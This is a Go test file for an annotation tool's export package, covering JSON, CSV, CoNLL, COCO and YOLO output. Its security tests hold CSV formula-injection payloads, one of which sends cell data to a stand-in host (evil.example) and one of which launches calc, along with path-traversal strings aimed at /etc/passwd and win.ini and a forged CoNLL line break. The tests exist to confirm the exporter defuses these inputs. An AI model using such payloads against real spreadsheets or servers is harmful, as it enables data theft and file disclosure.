package export

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"math"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"gloss/internal/fault"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output (review the diff!)")

// base is the fixtures' reference time; it has microseconds on purpose.
var base = time.Date(2026, 1, 2, 3, 4, 5, 123456000, time.UTC)

func TestMain(m *testing.M) {
	now = func() time.Time { return time.Date(2026, 3, 4, 5, 6, 7, 890123000, time.UTC) }
	os.Exit(m.Run())
}

func ptr[T any](v T) *T { return &v }

// fixtureSchema is what a configuration with these tags would give:
// Text $text with Choices sentiment/topics, TextArea comment, Rating rating,
// Labels label; Image $image with RectangleLabels objects and PolygonLabels
// shapes (Cat, Dog).
var fixtureSchema = Schema{
	ImageKey:     "image",
	TextKey:      "text",
	Labels:       []string{"Cat", "Dog"},
	DataKeys:     []string{"image", "rating", "source", "text"},
	ControlNames: []string{"comment", "label", "objects", "rating", "sentiment", "shapes", "topics"},
}

// fixtureTasks are the golden files' input: a text classification with a
// cancelled annotation and a prediction, an NER task with emoji before the
// spans and two annotations, an image with a box and a polygon, a task with
// no annotations, and a task whose only annotation was cancelled.
func fixtureTasks() []*Task {
	return []*Task{
		{
			ID: 1, InnerID: 1, ProjectID: 7,
			// "rating" is also a control's name: CSV writes it as "_data_rating".
			Data:      json.RawMessage(`{"text": "I love it & <b>it</b>", "source": {"site": "web", "lang": "en"}, "rating": "five stars"}`),
			CreatedAt: base, UpdatedAt: base.Add(time.Minute),
			Annotations: []Annotation{
				{
					ID: 101, CompletedBy: 3,
					Result: json.RawMessage(`[
						{"id": "c1", "from_name": "sentiment", "to_name": "text", "type": "choices", "value": {"choices": ["Positive"]}},
						{"id": "c2", "from_name": "topics", "to_name": "text", "type": "choices", "value": {"choices": ["Price", "Quality"]}},
						{"id": "t1", "from_name": "comment", "to_name": "text", "type": "textarea", "value": {"text": ["nice"]}},
						{"id": "r1", "from_name": "rating", "to_name": "text", "type": "rating", "value": {"rating": 4}},
						{"id": "x1", "from_name": "not_in_config", "to_name": "text", "type": "choices", "value": {"choices": ["Dropped"]}}
					]`),
					LeadTime: 4.5, CreatedAt: base, UpdatedAt: base.Add(time.Second), Reviewed: ptr(true),
				},
				{ID: 102, CompletedBy: 4, Result: json.RawMessage(`[]`), WasCancelled: true, LeadTime: 1, CreatedAt: base.Add(time.Hour), UpdatedAt: base.Add(time.Hour)},
			},
			Predictions: []Prediction{{
				ID: 11, ModelVersion: "v1", Score: ptr(0.87), CreatedAt: base,
				Result: json.RawMessage(`[{"from_name": "sentiment", "to_name": "text", "type": "choices", "value": {"choices": ["Negative"]}}]`),
			}},
		},
		{
			ID: 2, InnerID: 2, ProjectID: 7,
			// Offsets count code points, as Label Studio's exports do: Bob
			// is [4,7), Alice [12,17), "New York" [21,29). In UTF-16 units
			// (2 per emoji) they would be 3 more and land on "met" and "in".
			Data:      json.RawMessage(`{"text": "😀😀😀 Bob met Alice in New York."}`),
			CreatedAt: base, UpdatedAt: base,
			Annotations: []Annotation{
				{
					ID: 202, CompletedBy: 5, LeadTime: 3,
					Result:    json.RawMessage(`[{"id": "s9", "from_name": "label", "to_name": "text", "type": "labels", "value": {"start": 4, "end": 7, "text": "Bob", "labels": ["PER"]}}]`),
					CreatedAt: base, UpdatedAt: base,
				},
				{
					ID: 201, CompletedBy: 3, LeadTime: 12.25,
					Result: json.RawMessage(`[
						{"id": "s2", "from_name": "label", "to_name": "text", "type": "labels", "value": {"start": 12, "end": 17, "text": "Alice", "labels": ["PER"]}},
						{"id": "s1", "from_name": "label", "to_name": "text", "type": "labels", "value": {"start": 4, "end": 7, "text": "Bob", "labels": ["PER"]}},
						{"id": "s3", "from_name": "label", "to_name": "text", "type": "labels", "value": {"start": 21, "end": 29, "text": "New York", "labels": ["LOC"]}}
					]`),
					CreatedAt: base.Add(2 * time.Hour), UpdatedAt: base.Add(2 * time.Hour),
				},
			},
		},
		{
			ID: 3, InnerID: 3, ProjectID: 7,
			Data:      json.RawMessage(`{"image": "https://example.com/img/cat.jpg?sig=abc"}`),
			Meta:      json.RawMessage(`{"batch": "b-1"}`),
			CreatedAt: base, UpdatedAt: base,
			Annotations: []Annotation{{
				ID: 301, CompletedBy: 3, LeadTime: 7.125, CreatedAt: base, UpdatedAt: base,
				Result: json.RawMessage(`[
					{"id": "b1", "from_name": "objects", "to_name": "image", "type": "rectanglelabels", "original_width": 800, "original_height": 600, "image_rotation": 0,
					 "value": {"x": 12.5, "y": 25, "width": 50, "height": 25, "rotation": 0, "rectanglelabels": ["Dog"]}},
					{"id": "p1", "from_name": "shapes", "to_name": "image", "type": "polygonlabels", "original_width": 800, "original_height": 600, "image_rotation": 0,
					 "value": {"points": [[25, 25], [75, 25], [50, 75]], "polygonlabels": ["Cat"]}}
				]`),
			}},
		},
		{
			ID: 4, InnerID: 4, ProjectID: 7,
			Data:      json.RawMessage(`{"image": "/data/upload/7/dog.png", "text": "Nothing here"}`),
			CreatedAt: base, UpdatedAt: base,
		},
		{
			ID: 5, InnerID: 5, ProjectID: 7,
			Data:      json.RawMessage(`{"text": "skipped"}`),
			CreatedAt: base, UpdatedAt: base,
			Annotations: []Annotation{{ID: 501, CompletedBy: 3, WasCancelled: true, LeadTime: 0.5, CreatedAt: base, UpdatedAt: base}},
		},
	}
}

// source returns a next func over tasks.
func source(tasks []*Task) func() (*Task, error) {
	i := 0
	return func() (*Task, error) {
		if i == len(tasks) {
			return nil, io.EOF
		}
		i++
		return tasks[i-1], nil
	}
}

// mustWrite runs Write and returns its output.
func mustWrite(tb testing.TB, f Format, s Schema, tasks []*Task) []byte {
	tb.Helper()
	var buf bytes.Buffer
	if err := Write(&buf, f, s, source(tasks)); err != nil {
		tb.Fatalf("Write(%s): %v", f, err)
	}
	return buf.Bytes()
}

// zipDump lists a zip's entries in order with their contents, as the zip
// goldens hold them.
func zipDump(tb testing.TB, b []byte) []byte {
	tb.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		tb.Fatalf("open zip: %v", err)
	}
	var out bytes.Buffer
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			tb.Fatalf("open %s: %v", f.Name, err)
		}
		content, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			tb.Fatalf("read %s: %v", f.Name, err)
		}
		fmt.Fprintf(&out, "=== %s\n%s", f.Name, content)
		if len(content) > 0 && content[len(content)-1] != '\n' {
			out.WriteString("\n")
		}
	}
	return out.Bytes()
}

func TestGolden(t *testing.T) {
	tests := []struct {
		format Format
		golden string
		zipped bool
	}{
		{JSON, "json.golden", false},
		{JSONMin, "json_min.golden", false},
		{CSV, "csv.golden", false},
		{TSV, "tsv.golden", false},
		{CoNLL2003, "conll.golden", false},
		{COCO, "coco.golden", true},
		{YOLO, "yolo.golden", true},
	}
	for _, tt := range tests {
		t.Run(string(tt.format), func(t *testing.T) {
			got := mustWrite(t, tt.format, fixtureSchema, fixtureTasks())
			if tt.zipped {
				got = zipDump(t, got)
			}
			path := filepath.Join("testdata", tt.golden)
			if *update {
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(got, want) {
				t.Errorf("output differs from %s\n--- got\n%s\n--- want\n%s", path, got, want)
			}
		})
	}
}

// TestJSONIsValid checks that the JSON formats parse and carry LS's fields.
func TestJSONIsValid(t *testing.T) {
	var tasks []map[string]any
	if err := json.Unmarshal(mustWrite(t, JSON, fixtureSchema, fixtureTasks()), &tasks); err != nil {
		t.Fatal(err)
	}
	if len(tasks) != 5 {
		t.Fatalf("got %d tasks, want 5", len(tasks))
	}
	first := tasks[0]
	for _, k := range []string{"id", "annotations", "file_upload", "drafts", "predictions", "data", "meta", "created_at", "updated_at", "inner_id", "total_annotations", "cancelled_annotations", "total_predictions", "project"} {
		if _, ok := first[k]; !ok {
			t.Errorf("task has no %q", k)
		}
	}
	if first["total_annotations"] != 1.0 || first["cancelled_annotations"] != 1.0 || first["total_predictions"] != 1.0 {
		t.Errorf("counters = %v/%v/%v, want 1/1/1", first["total_annotations"], first["cancelled_annotations"], first["total_predictions"])
	}
	ann := first["annotations"].([]any)[0].(map[string]any)
	if ann["completed_by"] != 3.0 || ann["task"] != 1.0 || ann["project"] != 7.0 || ann["reviewed"] != true {
		t.Errorf("annotation = %v", ann)
	}
	if ann["created_at"] != "2026-01-02T03:04:05.123456Z" {
		t.Errorf("created_at = %v", ann["created_at"])
	}
	if _, ok := first["annotations"].([]any)[1].(map[string]any)["reviewed"]; ok {
		t.Error("an annotation never reviewed has a reviewed key")
	}

	var min []map[string]any
	if err := json.Unmarshal(mustWrite(t, JSONMin, fixtureSchema, fixtureTasks()), &min); err != nil {
		t.Fatal(err)
	}
	// Task 1 (1 kept), task 2 (2), task 3 (1), task 4 (no annotations: 1), task 5 (cancelled: 0).
	if len(min) != 5 {
		t.Fatalf("got %d JSON_MIN records, want 5", len(min))
	}
	if min[0]["sentiment"] != "Positive" || min[0]["comment"] != "nice" || min[0]["annotator"] != float64(3) {
		t.Errorf("record = %v", min[0])
	}
	if _, ok := min[0]["not_in_config"]; ok {
		t.Error("a from_name outside the schema was exported")
	}
	if min[1]["annotation_id"] != 201.0 || min[2]["annotation_id"] != 202.0 {
		t.Errorf("annotations not newest first: %v, %v", min[1]["annotation_id"], min[2]["annotation_id"])
	}
	if min[4]["annotator"] != nil || min[4]["id"] != 4.0 {
		t.Errorf("unannotated task record = %v", min[4])
	}
}

// TestCSVInjection checks that formula-like cells are defused, in data,
// results and headers, while plain numbers stay as they are.
func TestCSVInjection(t *testing.T) {
	payloads := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1"}
	for _, f := range []Format{CSV, TSV} {
		for _, p := range payloads {
			data, _ := json.Marshal(map[string]any{"text": p, "n": -3.5})
			result, _ := json.Marshal([]any{map[string]any{"from_name": "comment", "type": "textarea", "value": map[string]any{"text": []string{p}}}})
			task := &Task{ID: 1, Data: data, Annotations: []Annotation{{ID: 9, CompletedBy: 4, Result: result}}}
			s := Schema{DataKeys: []string{"text", "n", "=cmd()"}, ControlNames: []string{"comment"}}
			out := mustWrite(t, f, s, []*Task{task})
			r := csv.NewReader(bytes.NewReader(out))
			if f == TSV {
				r.Comma = '\t'
			}
			rows, err := r.ReadAll()
			if err != nil {
				t.Fatalf("%s %q: %v", f, p, err)
			}
			header, row := rows[0], rows[1]
			cell := func(name string) string { return row[slices.Index(header, name)] }
			if cell("text") != "'"+p || cell("comment") != "'"+p || cell("annotator") != "4" {
				t.Errorf("%s %q: cells text=%q comment=%q annotator=%q", f, p, cell("text"), cell("comment"), cell("annotator"))
			}
			if cell("n") != "-3.5" {
				t.Errorf("%s: number cell = %q, want -3.5", f, cell("n"))
			}
			if !slices.Contains(header, "'=cmd()") {
				t.Errorf("%s: header %q not guarded", f, header)
			}
		}
	}
}

// TestCSVHeaderFromFirstTask checks the header falls back to the first task's
// data keys when the schema lists none.
func TestCSVHeaderFromFirstTask(t *testing.T) {
	out := mustWrite(t, CSV, Schema{}, []*Task{{ID: 1, Data: json.RawMessage(`{"b": 1, "a": true, "c": null}`)}})
	want := "a,annotation_id,annotator,b,c,created_at,id,lead_time,updated_at\nTrue,,,1,,,1,,\n"
	if string(out) != want {
		t.Errorf("got\n%s\nwant\n%s", out, want)
	}
}

// TestPathTraversal checks that image references that point at server files
// only ever give base names inside the archives, and that no file is read.
func TestPathTraversal(t *testing.T) {
	secret := "gloss-secret-" + t.Name()
	dir := t.TempDir()
	path := filepath.Join(dir, "passwd")
	if err := os.WriteFile(path, []byte(secret), 0o600); err != nil {
		t.Fatal(err)
	}
	wd, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	rel, err := filepath.Rel(wd, path)
	if err != nil {
		t.Fatal(err)
	}
	srcs := []string{
		"../../etc/passwd",
		"/etc/passwd",
		"file:///etc/passwd",
		path,
		"file://" + path,
		rel,
		`..\..\windows\win.ini`,
		"http://example.com/../../etc/passwd",
		"https://example.com/a/..%2F..%2Fpasswd",
		"..",
		"/data/upload/../../..",
		"data:image/png;base64,AAAA",
	}
	var tasks []*Task
	for i, src := range srcs {
		data, _ := json.Marshal(map[string]string{"image": src})
		tasks = append(tasks, &Task{ID: i + 1, Data: data, Annotations: []Annotation{{
			ID: 100 + i,
			Result: json.RawMessage(`[{"from_name": "objects", "type": "rectanglelabels", "original_width": 10, "original_height": 10,
				"value": {"x": 0, "y": 0, "width": 10, "height": 10, "rectanglelabels": ["Cat"]}}]`),
		}}})
	}
	s := Schema{ImageKey: "image", Labels: []string{"Cat"}}
	for _, f := range []Format{COCO, YOLO} {
		out := mustWrite(t, f, s, tasks)
		if bytes.Contains(out, []byte(secret)) || bytes.Contains(zipDump(t, out), []byte(secret)) {
			t.Fatalf("%s: output contains the file's contents", f)
		}
		zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
		if err != nil {
			t.Fatal(err)
		}
		for _, zf := range zr.File {
			name := zf.Name
			if strings.HasPrefix(name, "/") || strings.Contains(name, `\`) || slices.Contains(strings.Split(name, "/"), "..") || strings.Count(name, "/") > 1 {
				t.Errorf("%s: unsafe entry name %q", f, name)
			}
			if f == YOLO && strings.HasPrefix(name, "labels/") && name != "labels/" && (!strings.HasSuffix(name, ".txt") || strings.Contains(strings.TrimPrefix(name, "labels/"), "/")) {
				t.Errorf("%s: label entry %q is not a plain file name", f, name)
			}
		}
		if f == COCO {
			var result struct {
				Images []struct {
					FileName string `json:"file_name"`
				} `json:"images"`
			}
			rc, err := zr.Open("result.json")
			if err != nil {
				t.Fatal(err)
			}
			if err := json.NewDecoder(rc).Decode(&result); err != nil {
				t.Fatal(err)
			}
			rc.Close()
			if len(result.Images) != len(srcs) {
				t.Fatalf("got %d images, want %d", len(result.Images), len(srcs))
			}
			for i, img := range result.Images {
				rest, ok := strings.CutPrefix(img.FileName, "images/")
				if !ok || rest == "" || strings.ContainsAny(rest, `/\`) || rest == ".." || rest == "." {
					t.Errorf("image %q: file_name %q is not images/<basename>", srcs[i], img.FileName)
				}
			}
		}
	}
}

// TestSafeBaseName pins the names drawn from image references.
func TestSafeBaseName(t *testing.T) {
	tests := []struct{ src, want string }{
		{"../../etc/passwd", "passwd"},
		{"/etc/passwd", "passwd"},
		{"file:///etc/passwd", "passwd"},
		{`C:\images\cat.jpg`, "cat.jpg"},
		{"https://example.com/img/cat.jpg?sig=a/b#x", "cat.jpg"},
		{"https://example.com", "task-9"},
		{"s3://bucket/dir/My%20Dog.png", "My Dog.png"},
		{"/data/upload/1/a%2F..%2Fb.png", "b.png"},
		{"..", "task-9"},
		{"a/..", "task-9"},
		{"x/%2e%2e", "task-9"},
		{"bad\nname:1.png", "bad_name_1.png"},
		{"data:image/png;base64,AAAA", "task-9"},
		{strings.Repeat("é", 200) + ".png", strings.Repeat("é", 125)},
	}
	for _, tt := range tests {
		if got := safeBaseName(tt.src, 9); got != tt.want {
			t.Errorf("safeBaseName(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
	for src, want := range map[string]string{
		"https://example.com/a.jpg":    "https://example.com/a.jpg",
		"s3://bucket/a.jpg":            "s3://bucket/a.jpg",
		"http://example.com/../a.jpg":  "images/a.jpg",
		"file://host/etc/passwd":       "images/passwd",
		"relative/photo.jpg":           "images/photo.jpg",
		"/data/upload/7/dog.png":       "images/dog.png",
		"javascript:alert(1)//foo.png": "images/foo.png",
	} {
		if got := cocoFileName(src, 1); got != want {
			t.Errorf("cocoFileName(%q) = %q, want %q", src, got, want)
		}
	}
	for name, want := range map[string]string{"a.jpg": "a", "a.b.c": "a.b", ".hidden": ".hidden", "noext": "noext", "..jpg": "..jpg"} {
		if got := stem(name); got != want {
			t.Errorf("stem(%q) = %q, want %q", name, got, want)
		}
	}
}

// TestYOLODuplicateNames checks two tasks with one image name, or names
// that differ only in case, get two files.
func TestYOLODuplicateNames(t *testing.T) {
	tasks := []*Task{
		{ID: 1, Data: json.RawMessage(`{"image": "a/x.jpg"}`)},
		{ID: 2, Data: json.RawMessage(`{"image": "b/x.png"}`)},
		{ID: 3, Data: json.RawMessage(`{"image": ["first.jpg", "c/x.jpg"]}`)},
		{ID: 4, Data: json.RawMessage(`{"image": "d/X.jpg"}`)}, // one file with x.txt where case is not told apart
	}
	out := mustWrite(t, YOLO, Schema{ImageKey: "image"}, tasks)
	zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range zr.File {
		names = append(names, f.Name)
	}
	want := []string{"images/", "labels/", "labels/x.txt", "labels/x_2.txt", "labels/x_3.txt", "labels/X_4.txt", "classes.txt", "notes.json"}
	if !slices.Equal(names, want) {
		t.Errorf("entries = %q, want %q", names, want)
	}
}

func TestPyFloat(t *testing.T) {
	point1, point2 := 0.1, 0.2 // variables, so that the sum is not folded exactly
	tests := []struct {
		f    float64
		want string
	}{
		{0, "0.0"},
		{math.Copysign(0, -1), "-0.0"},
		{1, "1.0"},
		{4.5, "4.5"},
		{-12.25, "-12.25"},
		{point1 + point2, "0.30000000000000004"},
		{1e-4, "0.0001"},
		{1.5e-5, "1.5e-05"},
		{1e16, "1e+16"},
		{1234567890123456, "1234567890123456.0"},
		{1.5e300, "1.5e+300"},
		{60000, "60000.0"},
		{math.NaN(), "null"},
	}
	for _, tt := range tests {
		if got := pyFloat(tt.f); got != tt.want {
			t.Errorf("pyFloat(%v) = %q, want %q", tt.f, got, tt.want)
		}
	}
}

func TestRotatedRectangle(t *testing.T) {
	obj, err := parseObject(json.RawMessage(`{"x": 10, "y": 10, "width": 20, "height": 10, "rotation": 90}`))
	if err != nil {
		t.Fatal(err)
	}
	x, y, w, h, ok := value{obj: obj}.rotatedRectangle()
	// Turned 90° clockwise about (10, 10), the box spans x 0..10, y 10..30.
	for i, pair := range [][2]float64{{x, 0}, {y, 10}, {w, 10}, {h, 20}} {
		if !ok || math.Abs(pair[0]-pair[1]) > 1e-9 {
			t.Errorf("coordinate %d = %v, want %v", i, pair[0], pair[1])
		}
	}
}

func TestParseFormat(t *testing.T) {
	for in, want := range map[string]Format{"json": JSON, "JSON_MIN": JSONMin, "json-min": JSONMin, "Csv": CSV, "tsv": TSV, "conll2003": CoNLL2003, "coco": COCO, " YOLO ": YOLO, "voc": VOC} {
		got, err := ParseFormat(in)
		if err != nil || got != want {
			t.Errorf("ParseFormat(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	_, err := ParseFormat("BRUSH_TO_PNG")
	if fe := fault.As(err); fe == nil || fe.Code != fault.BadInput || !strings.Contains(fe.Message, "JSON, JSON_MIN, CSV, TSV, CONLL2003, COCO, VOC, YOLO") {
		t.Errorf("ParseFormat(BRUSH_TO_PNG) error = %v", err)
	}
	if err := Write(io.Discard, Format("BRUSH_TO_PNG"), Schema{}, source(nil)); fault.As(err) == nil {
		t.Errorf("Write(BRUSH_TO_PNG) = %v, want BAD_USER_INPUT", err)
	}
	types := map[Format][2]string{
		JSON: {"application/json", ".json"}, JSONMin: {"application/json", ".json"},
		CSV: {"text/csv", ".csv"}, TSV: {"text/tab-separated-values", ".tsv"},
		CoNLL2003: {"text/plain", ".conll"}, COCO: {"application/zip", ".zip"}, YOLO: {"application/zip", ".zip"}, VOC: {"application/zip", ".zip"},
	}
	for f, want := range types {
		if f.ContentType() != want[0] || f.FileExtension() != want[1] {
			t.Errorf("%s: %s %s, want %s %s", f, f.ContentType(), f.FileExtension(), want[0], want[1])
		}
	}
}

// TestEmptyAndErrors covers no tasks, a failing source and bad task data.
func TestEmptyAndErrors(t *testing.T) {
	empty := map[Format]string{JSON: "[]", JSONMin: "[\n\n]", CoNLL2003: "-DOCSTART- -X- O\n"}
	for f, want := range empty {
		if got := mustWrite(t, f, fixtureSchema, nil); string(got) != want {
			t.Errorf("%s with no tasks = %q, want %q", f, got, want)
		}
	}
	coco := zipDump(t, mustWrite(t, COCO, fixtureSchema, nil))
	if !bytes.Contains(coco, []byte(`"images": [],`)) || !bytes.Contains(coco, []byte(`"annotations": [],`)) {
		t.Errorf("empty COCO:\n%s", coco)
	}

	boom := errors.New("boom")
	for _, f := range Formats {
		calls := 0
		next := func() (*Task, error) {
			calls++
			if calls > 1 {
				return nil, boom
			}
			return fixtureTasks()[0], nil
		}
		if err := Write(io.Discard, f, fixtureSchema, next); !errors.Is(err, boom) {
			t.Errorf("%s: error = %v, want boom", f, err)
		}
		bad := &Task{ID: 1, Data: json.RawMessage(`["not", "an", "object"]`)}
		if err := Write(io.Discard, f, fixtureSchema, source([]*Task{bad})); err == nil {
			t.Errorf("%s: data that is not an object was accepted", f)
		}
	}
	for _, f := range []Format{COCO, YOLO, CoNLL2003} {
		if err := Write(io.Discard, f, Schema{}, source(nil)); err == nil {
			t.Errorf("%s without its data key: no error", f)
		}
	}
}

// TestCOCOLeavesNoSpool checks the temporary file is removed.
func TestCOCOLeavesNoSpool(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	mustWrite(t, COCO, fixtureSchema, fixtureTasks())
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 0 {
		t.Errorf("temporary files left: %v", entries)
	}
}

// generated returns a source of n distinct tasks built on demand.
func generated(n int) func() (*Task, error) {
	i := 0
	return func() (*Task, error) {
		if i == n {
			return nil, io.EOF
		}
		i++
		data := fmt.Appendf(nil, `{"image": "https://example.com/img/%d.jpg", "text": "task number %d with some words in it"}`, i, i)
		return &Task{
			ID: i, InnerID: i, ProjectID: 1, Data: data, CreatedAt: base, UpdatedAt: base,
			Annotations: []Annotation{{
				ID: i, CompletedBy: 1, LeadTime: 2.5, CreatedAt: base, UpdatedAt: base,
				Result: json.RawMessage(`[{"from_name": "sentiment", "to_name": "text", "type": "choices", "value": {"choices": ["Positive"]}},
					{"from_name": "objects", "to_name": "image", "type": "rectanglelabels", "original_width": 640, "original_height": 480,
					 "value": {"x": 10, "y": 20, "width": 30, "height": 40, "rotation": 0, "rectanglelabels": ["Cat"]}},
					{"from_name": "label", "to_name": "text", "type": "labels", "value": {"start": 0, "end": 4, "labels": ["X"]}}]`),
			}},
		}, nil
	}
}

// TestMemoryBounded streams 50,000 tasks and checks that the live heap does
// not grow with them. YOLO's archive lists every label file in the zip
// central directory, which archive/zip keeps until Close, so it grows by a
// few hundred bytes a task and still stays well under the bound. With -short
// only JSON is checked.
func TestMemoryBounded(t *testing.T) {
	const n = 50_000
	const limit = 30 << 20
	liveHeap := func() uint64 {
		runtime.GC()
		var ms runtime.MemStats
		runtime.ReadMemStats(&ms)
		return ms.HeapAlloc
	}
	for _, f := range []Format{JSON, JSONMin, CSV, CoNLL2003, COCO, YOLO} {
		t.Run(string(f), func(t *testing.T) {
			baseline := liveHeap()
			peak := baseline
			gen := generated(n)
			count := 0
			next := func() (*Task, error) {
				if count++; count%5000 == 0 {
					peak = max(peak, liveHeap())
				}
				return gen()
			}
			if err := Write(io.Discard, f, fixtureSchema, next); err != nil {
				t.Fatal(err)
			}
			growth := int64(peak) - int64(baseline)
			t.Logf("live heap growth over %d tasks: %.1f MiB", n, float64(growth)/(1<<20))
			if growth > limit {
				t.Errorf("heap grew by %d MiB over %d tasks", growth>>20, n)
			}
		})
	}
}

func benchmarkWrite(b *testing.B, f Format) {
	const n = 1000
	tasks := make([]*Task, 0, n)
	gen := generated(n)
	for {
		t, err := gen()
		if err != nil {
			break
		}
		tasks = append(tasks, t)
	}
	var out countingWriter
	b.ReportAllocs()
	b.ResetTimer()
	for b.Loop() {
		if err := Write(&out, f, fixtureSchema, source(tasks)); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(n), "tasks/op")
	b.SetBytes(out.n / int64(b.N))
}

// countingWriter counts bytes written.
type countingWriter struct{ n int64 }

func (w *countingWriter) Write(p []byte) (int, error) { w.n += int64(len(p)); return len(p), nil }

// BenchmarkWriteCSVPlain and BenchmarkWriteJSONPlain write tasks without
// annotations, as freshly imported ones (make bench's export).
func BenchmarkWriteCSVPlain(b *testing.B)  { benchmarkWritePlain(b, CSV) }
func BenchmarkWriteJSONPlain(b *testing.B) { benchmarkWritePlain(b, JSON) }

func benchmarkWritePlain(b *testing.B, f Format) {
	tasks := make([]*Task, 1000)
	for i := range tasks {
		tasks[i] = &Task{ID: i + 1, InnerID: i + 1, ProjectID: 1, CreatedAt: base, UpdatedAt: base,
			Data: fmt.Appendf(nil, `{"text":"task number %d with some words to label"}`, i)}
	}
	s := Schema{DataKeys: []string{"text"}, ControlNames: []string{"sentiment"}}
	var out countingWriter
	b.ReportAllocs()
	for b.Loop() {
		if err := Write(&out, f, s, source(tasks)); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(len(tasks)), "tasks/op")
}

func BenchmarkWriteJSON(b *testing.B) { benchmarkWrite(b, JSON) }
func BenchmarkWriteCSV(b *testing.B)  { benchmarkWrite(b, CSV) }

func BenchmarkWriteJSONMin(b *testing.B) { benchmarkWrite(b, JSONMin) }

// TestHiddenAuthor checks that an annotation whose author the viewer may not
// learn (CompletedBy 0, no email) names nobody in any format, and that each
// format stays valid: null in JSON and JSON_MIN, an empty cell in CSV/TSV.
func TestHiddenAuthor(t *testing.T) {
	result := json.RawMessage(`[{"from_name":"sentiment","to_name":"text","type":"choices","value":{"choices":["Positive"]}}]`)
	tasks := []*Task{{ID: 1, Data: json.RawMessage(`{"text":"hello"}`), Annotations: []Annotation{{ID: 9, Result: result, CreatedAt: base, UpdatedAt: base}}}}
	s := Schema{DataKeys: []string{"text"}, ControlNames: []string{"sentiment"}}

	var full []map[string]any
	if err := json.Unmarshal(mustWrite(t, JSON, s, tasks), &full); err != nil {
		t.Fatal(err)
	}
	if a := full[0]["annotations"].([]any)[0].(map[string]any); a["completed_by"] != nil {
		t.Fatalf("JSON completed_by = %v, want null", a["completed_by"])
	}
	var min []map[string]any
	if err := json.Unmarshal(mustWrite(t, JSONMin, s, tasks), &min); err != nil {
		t.Fatal(err)
	}
	if v, ok := min[0]["annotator"]; !ok || v != nil {
		t.Fatalf("JSON_MIN annotator = %v (present %v), want null", v, ok)
	}
	for _, f := range []Format{CSV, TSV} {
		r := csv.NewReader(bytes.NewReader(mustWrite(t, f, s, tasks)))
		if f == TSV {
			r.Comma = '\t'
		}
		rows, err := r.ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%s: %v %q", f, err, rows)
		}
		i := slices.Index(rows[0], "annotator")
		if rows[1][i] != "" || rows[1][slices.Index(rows[0], "annotation_id")] != "9" {
			t.Fatalf("%s row %q", f, rows[1])
		}
	}
}

// TestCoNLLLabelsStayOnTheirLine: an imported annotation's label is not
// held to the configuration, so it may hold a line break; CoNLL writes one
// token a line, and a label's line break must not start a line of its own
// (a forged "-DOCSTART-", or a token of the annotator's choosing).
func TestCoNLLLabelsStayOnTheirLine(t *testing.T) {
	task := &Task{ID: 1, InnerID: 1, ProjectID: 7, CreatedAt: base, UpdatedAt: base,
		Data: json.RawMessage(`{"text": "Bob ran"}`),
		Annotations: []Annotation{{ID: 1, CompletedBy: 3,
			Result: json.RawMessage(`[{"id": "s1", "from_name": "label", "to_name": "text", "type": "labels", "value": {"start": 0, "end": 3, "text": "Bob", "labels": ["PER\n-DOCSTART- -X- O O\r\u2028x\u0085y"]}}]`)}}}
	got := string(mustWrite(t, CoNLL2003, fixtureSchema, []*Task{task}))
	var tokens []string
	for i, line := range strings.Split(strings.TrimSpace(got), "\n") {
		if i > 0 && line != "" { // the first is the document's -DOCSTART- line
			tokens = append(tokens, line)
		}
	}
	if len(tokens) != 2 || !strings.HasPrefix(tokens[0], "Bob -X- _ B-PER ") || !strings.HasPrefix(tokens[1], "ran -X- _ O") {
		t.Fatalf("CoNLL with a label holding line breaks:\n%s", got)
	}
}
